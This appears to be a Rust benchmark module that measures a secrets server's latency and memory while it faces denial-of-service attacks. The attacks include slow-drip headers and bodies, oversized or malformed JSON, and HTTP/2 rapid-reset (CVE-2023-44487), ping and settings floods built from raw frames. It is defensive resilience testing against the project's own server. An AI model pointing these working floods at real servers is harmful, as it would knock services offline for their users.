//! How long an honest client waits while others attack, and what memory the attack takes.

use std::{
    env, fs, io,
    net::SocketAddr,
    path::Path,
    process::{Child, Command, Stdio},
    sync::Arc,
    thread,
    time::{Duration, Instant},
};

use rustls::pki_types::ServerName;
use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::TcpStream,
    time::{sleep, timeout},
};
use tokio_rustls::{TlsConnector, client::TlsStream};

use crate::{
    load::{self, Work},
    measure_on,
    subject::Subject,
};

/// What attackers do, and on how many connections.
const ATTACKS: [(&str, &str, usize); 10] = [
    ("idle", "connections that say nothing", 5_000),
    ("heads", "heads a byte at a time", 500),
    ("bodies", "bodies a byte at a time", 500),
    ("json", "a body of 0.9 MB that is too deep", 4),
    ("cut", "a body of 0.9 MB that is broken off", 4),
    ("strings", "a body of 0.9 MB that holds no value", 4),
    ("written", "0.9 MB of 300,000 strings, written", 4),
    ("resets", "HTTP/2 streams begun and reset", 4),
    ("pings", "HTTP/2 pings", 4),
    ("settings", "HTTP/2 settings", 4),
];
/// Connections of the honest client.
const HONEST: usize = 8;
/// Until the attackers are at work.
const WARM_UP: Duration = Duration::from_secs(6);

/// Prints a line for the honest client alone, and one for each attack.
pub(crate) fn run(subject: &Subject, ca: &Path, seconds: u64) -> io::Result<()> {
    println!("\n{HONEST} connections that read one secret, alone and beside attackers");
    let honest = || measure_on(HONEST, Work::Read, subject.address, ca, &subject.token, seconds);
    let (alone, before) = (honest()?, resident()?);
    let mut p99 = alone.outcome.p99;
    print("alone", &alone, p99, "");
    let only = env::var("ATTACK").ok();
    let wanted = |word: &str| only.as_deref().is_none_or(|only| only == word);
    for (word, name, connections) in ATTACKS.into_iter().filter(|(word, ..)| wanted(word)) {
        let attack = Attack::begin(word, connections, subject, ca)?;
        thread::sleep(WARM_UP);
        let measured = honest()?;
        let grown = resident()?.saturating_sub(before);
        drop(attack);
        // Alone once more: what it is held against is as old as what follows.
        thread::sleep(Duration::from_secs(1));
        let again = honest()?.outcome.p99;
        let kept = resident()?.saturating_sub(before);
        let memory = format!("{grown:+} MiB, then {kept:+} MiB");
        print(&format!("{connections} × {name}"), &measured, p99, &memory);
        p99 = again;
    }
    Ok(())
}

fn print(name: &str, measured: &crate::Measured, alone: Duration, memory: &str) {
    let outcome = measured.outcome;
    let ratio = outcome.p99.as_secs_f64() / alone.as_secs_f64();
    println!(
        "{name:<46} {:>7.0}/s  p50 {:.1?}  p99 {:.1?}  {ratio:.2} times alone  {memory}",
        outcome.rate, outcome.p50, outcome.p99
    );
}

/// Memory of this process, the server, in MiB.
fn resident() -> io::Result<u64> {
    let status = fs::read_to_string("/proc/self/status")?;
    let line = status.lines().find_map(|line| line.strip_prefix("VmRSS:"));
    let kib = line.and_then(|line| line.split_whitespace().next()?.parse::<u64>().ok());
    Ok(kib.ok_or_else(|| io::Error::other("no VmRSS"))? / 1024)
}

/// Attackers at work in a process of their own, until dropped.
struct Attack(Child);

impl Attack {
    fn begin(word: &str, connections: usize, subject: &Subject, ca: &Path) -> io::Result<Self> {
        let child = Command::new(env::current_exe()?)
            .args([MARK, word, &connections.to_string(), &subject.address.to_string()])
            .arg(ca)
            .env(TOKEN, &subject.token)
            .stdout(Stdio::null())
            .spawn()?;
        Ok(Self(child))
    }
}

impl Drop for Attack {
    fn drop(&mut self) {
        // It ends when it is told to, or has ended before.
        self.0.kill().ok();
        self.0.wait().ok();
    }
}

/// In the process that attacks: goes on until it is killed.
pub(crate) fn as_attack() -> Option<io::Result<()>> {
    let arguments: Vec<String> = env::args().collect();
    let [_, mark, word, connections, address, ca] = arguments.as_slice() else { return None };
    let connections: usize = connections.parse().ok().filter(|_| mark == MARK)?;
    Some(attack(word, connections, address, Path::new(ca)))
}

fn attack(word: &str, connections: usize, address: &str, ca: &Path) -> io::Result<()> {
    let address: SocketAddr = address.parse().map_err(io::Error::other)?;
    let token = env::var(TOKEN).map_err(io::Error::other)?;
    let plain = load::connector(ca)?;
    let mut framed = load::trusting(ca)?;
    framed.alpn_protocols = vec![b"h2".to_vec()];
    let framed = TlsConnector::from(Arc::new(framed));
    let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build()?;
    runtime.block_on(async {
        for _ in 0..connections {
            let (word, token) = (word.to_owned(), token.clone());
            let connector =
                if matches!(&*word, "resets" | "pings" | "settings") { &framed } else { &plain };
            let connector = connector.clone();
            tokio::spawn(async move {
                loop {
                    // Whoever is turned away or cut off comes again.
                    let turn = one(&word, &connector, address, &token).await;
                    let pause = if turn.is_ok() { 0 } else { 100 };
                    sleep(Duration::from_millis(pause)).await;
                }
            });
        }
        std::future::pending::<()>().await;
    });
    Ok(())
}

/// What one attacker does on one connection.
async fn one(
    word: &str,
    connector: &TlsConnector,
    address: SocketAddr,
    token: &str,
) -> io::Result<()> {
    let stream = TcpStream::connect(address).await?;
    let mut stream = connector.connect(ServerName::IpAddress(address.ip().into()), stream).await?;
    let write = |length: usize| {
        format!(
            "POST {}/hostile HTTP/1.1\r\nhost: localhost\r\nx-vault-token: {token}\r\n\
             content-length: {length}\r\n\r\n",
            crate::PATH
        )
    };
    match word {
        "idle" => stream.read_u8().await.map(drop),
        "heads" => drip(&mut stream, "GET /v1/secret/data/a HTTP/1.1\r\nx-slow: ").await,
        "bodies" => drip(&mut stream, &write(1_000)).await,
        "json" => {
            let body = "[".repeat(900_000);
            stream.write_all(write(body.len()).as_bytes()).await?;
            stream.write_all(body.as_bytes()).await?;
            stream.read_u8().await.map(drop)
        }
        "cut" => {
            let body = vec![b' '; 900_000];
            stream.write_all(write(body.len() + 1).as_bytes()).await?;
            stream.write_all(&body).await?;
            // What is still on its way would be lost with the connection.
            stream.shutdown().await?;
            stream.read_u8().await.map(drop)
        }
        "strings" | "written" => {
            let member = if word == "strings" { "none" } else { "data" };
            let body = format!("{{\"{member}\":{{\"a\":[{}\"\"]}}}}", "\"\",".repeat(300_000));
            stream.write_all(write(body.len()).as_bytes()).await?;
            stream.write_all(body.as_bytes()).await?;
            stream.read_u8().await.map(drop)
        }
        "resets" => flood(&mut stream, resets).await,
        "settings" => flood(&mut stream, |_| frame(4, 0, 0, &[])).await,
        _ => flood(&mut stream, |_| frame(6, 0, 0, &[0; 8])).await,
    }
}

/// A beginning, and then a byte now and then, for as long as the server bears it.
async fn drip(stream: &mut TlsStream<TcpStream>, beginning: &str) -> io::Result<()> {
    stream.write_all(beginning.as_bytes()).await?;
    loop {
        stream.write_all(b"x").await?;
        stream.flush().await?;
        if let Ok(told) = timeout(Duration::from_millis(200), stream.read_u8()).await {
            return told.map(drop);
        }
    }
}

/// Frames as fast as they are taken, a hundred at a time.
async fn flood(stream: &mut TlsStream<TcpStream>, make: impl Fn(u32) -> Vec<u8>) -> io::Result<()> {
    stream.write_all(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n").await?;
    stream.write_all(&frame(4, 0, 0, &[])).await?;
    let mut answers = vec![0; 64 * 1024];
    let began = Instant::now();
    for turn in 0_u32.. {
        let frames: Vec<u8> = (0..100).flat_map(|n| make(turn * 100 + n)).collect();
        stream.write_all(&frames).await?;
        stream.flush().await?;
        // So that nobody waits for answers to be read.
        while let Ok(read) = timeout(Duration::from_millis(1), stream.read(&mut answers)).await {
            if read? == 0 {
                return Ok(());
            }
        }
        if began.elapsed() > Duration::from_secs(60) {
            break;
        }
    }
    Ok(())
}

/// A stream that is begun and reset at once (CVE-2023-44487).
fn resets(number: u32) -> Vec<u8> {
    let stream = number.wrapping_mul(2) + 1;
    // GET https / localhost, by the static table (RFC 7541 appendix A).
    let head = [&[0x82, 0x87, 0x84, 0x41, 9][..], b"localhost"].concat();
    [frame(1, 5, stream, &head), frame(3, 0, stream, &8_u32.to_be_bytes())].concat()
}

/// One frame (RFC 9113 section 4.1).
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or(0).to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

const MARK: &str = "--as-attack";
const TOKEN: &str = "KISTA_BENCH_TOKEN";
